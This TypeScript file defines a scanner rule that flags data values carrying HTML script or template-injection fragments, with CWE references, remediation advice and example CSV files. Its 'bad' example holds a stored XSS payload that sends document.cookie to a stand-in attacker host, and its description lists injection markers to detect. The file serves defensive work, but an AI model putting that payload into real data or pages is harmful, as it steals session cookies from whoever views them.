import type { SignalRule } from './signal-rule.js';

export const signalScriptFragment: SignalRule = {
  id: 'data.signal.script-fragment',
  signal: 'scriptFragment',
  title: "Values carry HTML script or template injection fragments",
  category: 'data',
  severity: 'medium',
  confidence: 'medium',
  cwe: ['CWE-79', 'CWE-1336'],
  what: "Counts text values with <script>, <iframe>/<svg>/<object>/<embed> tags, javascript: or vbscript: URLs, onerror=-style handlers, or template expressions ({{ }}, ${ }, <% %>).",
  why: "Pipelines feed dashboards, notebooks and emails that render text as HTML or templates: stored payloads run in the browser of whoever looks at the data, or in the template engine.",
  remediation: "Escape on output in every renderer, and reject or quarantine records carrying markup where none is expected.",
  bad: [{ file: 'data.csv', code: "id,bio\n1,\"<script>fetch('//evil.example/'+document.cookie)</script>\"\n2,hello\n" }],
  good: [{ file: 'data.csv', code: "id,bio\n1,I like 2 < 3 and 5 > 4\n2,hello\n" }],
  references: ['https://owasp.org/www-community/attacks/xss/', 'https://cwe.mitre.org/data/definitions/79.html'],
};
